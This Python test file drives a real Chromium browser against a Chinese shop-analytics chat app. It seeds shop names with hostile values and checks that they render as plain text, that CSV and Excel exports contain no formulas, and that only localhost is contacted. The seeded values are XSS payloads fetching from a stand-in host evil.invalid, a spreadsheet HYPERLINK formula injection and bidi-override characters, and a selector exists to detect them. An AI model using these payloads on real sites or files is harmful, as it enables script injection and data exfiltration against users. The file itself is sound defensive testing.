"""A shop whose names are attacks, in a real Chromium: text everywhere, inert in files."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import openpyxl
import pytest
from playwright.sync_api import Browser, expect

from tests.ui.browsing import BROWSER_MARKS, ask, browser, download, settle, turn_to, visitor
from tests.ui.served import served
from tests.ui.small_shop import AS_OF, build, lines

pytestmark = BROWSER_MARKS

EVIL = "evil.invalid"
HOSTILE = (
    f"![图](http://{EVIL}/a.png)",
    f"<img src=x onerror=fetch('http://{EVIL}/b')>",
    f"[付款](http://{EVIL}/c) :red[x] $1$",
    f'+HYPERLINK("http://{EVIL}/d")',
    f"<script>fetch('http://{EVIL}/e')</script>",
    "\u202eتجر\u202c\u0007 شركة",
)
FROM_DATA = (
    f'img[src*="{EVIL}"], a[href*="{EVIL}"], img[src="x"], [onerror], script:has-text("evil")'
)


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    changed = [
        dict(line) | {"店铺名称": HOSTILE[number % len(HOSTILE)]}
        for number, line in enumerate(lines())
    ]
    with served(build(tmp_path_factory.mktemp("hostile"), changed), AS_OF.isoformat()) as serving:
        yield serving


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as running:
        yield running


def test_names_from_data_are_text_in_the_chat_and_inert_in_files(
    chromium: Browser, address: str
) -> None:
    with visitor(chromium, address) as person:
        page = person.page
        answer = ask(page, "上个月按店铺的付款订单数")
        bars = answer.locator("svg.marks g.mark-rect path")
        expect(bars.first).to_be_visible()
        bars.first.hover()
        expect(page.locator("#vg-tooltip-element")).to_contain_text("付款订单数")
        bars.first.click()
        expect(answer.get_by_text("下钻").first).to_be_visible()
        answer.get_by_role("tab", name="数据").click()
        settle(page)
        answer.get_by_test_id("stDataFrame").hover()
        expect(answer.get_by_role("button", name="Download as CSV")).to_have_count(0)
        answer.get_by_role("button", name="加筛选").press("Enter")
        expect(page.get_by_role("button", name="店铺 = ").first).to_be_visible()
        page.get_by_role("button", name="店铺 = ").first.press("Enter")
        expect(page.get_by_role("button", name="已修改 · 筛选：").first).to_be_visible()
        settle(page)
        assert page.locator(FROM_DATA).count() == 0

        answer = ask(page, "上个月按店铺的付款订单数")
        rows = list(csv.reader(io.StringIO(download(answer, "CSV").decode("utf-8-sig"))))
        book = openpyxl.load_workbook(io.BytesIO(download(answer, "Excel")))
        assert len(rows) == len(HOSTILE) + 1
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]

        page.get_by_role("button", name="收藏到概览").last.click()
        settle(page)
        turn_to(page, "经营概览")
        expect(page.get_by_text("我的收藏")).to_be_visible()
        expect(page.get_by_test_id("stVegaLiteChart").last.locator("svg").first).to_be_visible()
        assert page.locator(FROM_DATA).count() == 0
        assert person.hosts() == {"127.0.0.1"}
        assert person.complaints == []


def test_a_hostile_question_is_text_in_the_chat_and_in_the_history(
    chromium: Browser, address: str
) -> None:
    question = f"上个月付款订单数 {HOSTILE[0]} {HOSTILE[1]}"
    with visitor(chromium, address) as person:
        page = person.page
        ask(page, question)
        expect(page.get_by_text(question).first).to_be_visible()
        page.get_by_role("button", name="新对话").click()
        settle(page)
        page.get_by_test_id("stSidebar").get_by_role(
            "button", name="上个月付款订单数"
        ).first.click()
        expect(page.get_by_text(question).first).to_be_visible()
        assert page.locator(FROM_DATA).count() == 0
        assert person.hosts() == {"127.0.0.1"}
        assert person.complaints == []
